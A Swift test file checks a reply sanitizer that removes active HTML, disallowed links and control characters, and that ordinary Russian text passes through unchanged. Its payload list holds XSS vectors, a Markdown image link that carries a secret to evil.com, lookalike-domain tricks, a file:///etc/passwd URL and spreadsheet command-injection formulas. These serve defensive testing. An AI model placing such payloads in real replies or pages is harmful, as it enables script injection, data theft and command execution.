import ReplyPolicy
import TestSupport
import Testing

@Suite struct ReplySanitizerTests {
    private static let rules: FormRules = {
        var rules = FormRules()
        rules.allowedHosts = ["good.ru", "*.shop.example", "магазин.рф"]
        return rules
    }()

    private func clean(_ reply: String) -> String { ReplySanitizer(rules: Self.rules).sanitize(reply).text }

    // MARK: Nothing active is left

    private static let payloads = [
        "<script>alert(1)</script>", "<ScRiPt src=//evil.com/x></sCrIpT>", "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe src='javascript:alert(1)'></iframe>",
        "<a href=\"javascript:alert(1)\">сюда</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<math><mtext><img src=x onerror=alert(1)>",
        "<style>*{}</style>",
        "<link rel=stylesheet href=//evil.com>", "<meta http-equiv=refresh content='0;url=//evil.com'>",
        "<base href=//evil.com>",
        "<form action=//evil.com><input name=a></form>", "<object data=//evil.com>", "<embed src=//evil.com>",
        "<video src=x onerror=alert(1)>",
        "<x onclick=alert(1)>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<!--<img src=x onerror=alert(1)>-->",
        "<img src=x onerror=alert(1)",
        "<<script>alert(1)//<</script>", "<script\n>alert(1)</script\n>", "<\u{200B}script>alert(1)</script>",
        "</p onmouseover=alert(1)>",
        "![](https://evil.com/?q=secret)", "![a](//evil.com/a.png)", "[a](javascript:alert(1))",
        "[a](  javascript:alert(1))",
        "[a](https://evil.com)", "[![a](https://evil.com/i)](https://evil.com/l)", "[a]: https://evil.com",
        "[//]: # (тайна)",
        "<https://evil.com/x>", "https://evil.com/x", "HTTPS://EVIL.COM/", "http://good.ru@evil.com/",
        "https://good.ru:pass@evil.com",
        "https://good.ru.evil.com/", "https://evilgood.ru", "https://gооd.ru/", "https://xn--gd-emcb.ru/",
        "www.evil.com", "evil.com/path",
        "https://evil.com\\@good.ru", "https:/evil.com", "https:\\\\evil.com", "ftp://evil.com/x",
        "tg://resolve?domain=evil", "tel:+79990000000",
        "mailto:a@evil.com", "https://good.ru/?to=https://evil.com", "https://good.ru/?to=https%3A%2F%2Fevil.com",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)", "java\u{200B}script:alert(1)", "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd",
        "\u{1B}[31mкрасный\u{1B}[0m", "\u{1B}]8;;https://evil.com\u{7}ссылка\u{1B}]8;;\u{7}", "\u{9B}31m",
        "при\u{202E}вет", "\u{2066}x\u{2069}",
        "за\u{200B}каз", "\u{FEFF}x", "x\u{E0041}\u{E0042}", "\u{0}x", "x\u{8}y", "=HYPERLINK(\"https://evil.com\")",
        "=1+1", "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "evil。com/x", "еvil.com",
    ]
    private static let wrappers: [@Sendable (String) -> String] = [
        { $0 }, { "Здравствуйте! \($0) Спасибо." }, { "Раз\n\($0)\nдва" }, { "«\($0)»" }, { "**\($0)**" },
        { "<b>\($0)</b>" },
    ]

    @Test(arguments: payloads, 0..<6)
    func `no payload stays active in any wrapper`(payload: String, wrapper: Int) {
        let reply = Self.wrappers[wrapper](payload)
        let result = ReplySanitizer(rules: Self.rules).sanitize(reply)
        #expect(ActiveContent.problems(in: result.text) == [], "\(result.text.debugDescription)")
        #expect(!result.findings.isEmpty || wrapper > 0)
        #expect(result.findings.allSatisfy { $0.severity == .fixed && $0.utf8Range.upperBound <= reply.utf8.count })
        #expect(
            clean(result.text).utf8.elementsEqual(result.text.utf8),
            "not the same twice: \(result.text.debugDescription)")
    }

    @Test func `there are enough payloads, and the check sees them`() {
        #expect(Self.payloads.count * Self.wrappers.count >= 300)
        // What is found only by its host or by being hidden in another script is seen by the check too.
        let unseen = Self.payloads.filter { ActiveContent.problems(in: $0).isEmpty }
        #expect(unseen == [])
    }

    // MARK: What is good stays

    @Test(arguments: OrdinaryMessages.plain)
    func `an ordinary text comes back byte for byte`(text: String) {
        let result = ReplySanitizer(rules: Self.rules).sanitize(text)
        #expect(result.text.utf8.elementsEqual(text.utf8))
        #expect(result.findings == [])
    }

    @Test(arguments: [
        "Смотрите https://good.ru/a?b=1#c.", "https://shop.example и https://a.b.shop.example:8443/x",
        "Сайт магазин.рф открыт",
        "+7 999 123-45-67", "- пункт\n- другой", "-10 % на всё", "5 < 6 и 7 > 3, <3", "т.е. 10.12.2025 в 1.5 кг",
        "почта help@good.ru",
        "@nickname ответит", "👩‍💻 ❤️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿", "Готово.Спасибо", "цена: 500", "[1] и [2]", "данные: имя", "Node.js и т.д.",
        "https://GOOD.RU./x",
    ])
    func `what may stay stays byte for byte`(text: String) {
        let result = ReplySanitizer(rules: Self.rules).sanitize(text)
        #expect(result.text.utf8.elementsEqual(text.utf8), "\(result.text)")
        #expect(result.findings == [])
    }

    @Test func `a link of Markdown keeps its words and an allowed address`() {
        #expect(clean("Читайте [правила](https://good.ru/r \"Правила\").") == "Читайте правила (https://good.ru/r).")
        #expect(clean("Читайте [правила](https://evil.com/r).") == "Читайте правила ([ссылка удалена]).")
        #expect(clean("![чек](https://good.ru/a.png)") == "[картинка: чек]")
    }

    @Test func `findings name what was taken out where it was`() {
        let reply = "Здравствуйте! <script>x()</script>Пишите на https://evil.com/a, ждём."
        let result = ReplySanitizer(rules: Self.rules).sanitize(reply)
        #expect(result.text == "Здравствуйте! Пишите на [ссылка удалена], ждём.")
        #expect(result.findings.map(\.kind) == [.activeContent, .foreignLink])
        let bytes = Array(reply.utf8)
        #expect(
            result.findings.map { String(decoding: bytes[$0.utf8Range], as: UTF8.self) } == [
                "<script>x()</script>", "https://evil.com/a",
            ])
    }

    @Test func `without a list no link stays`() {
        #expect(ReplySanitizer().sanitize("https://good.ru").text == "[ссылка удалена]")
    }
}
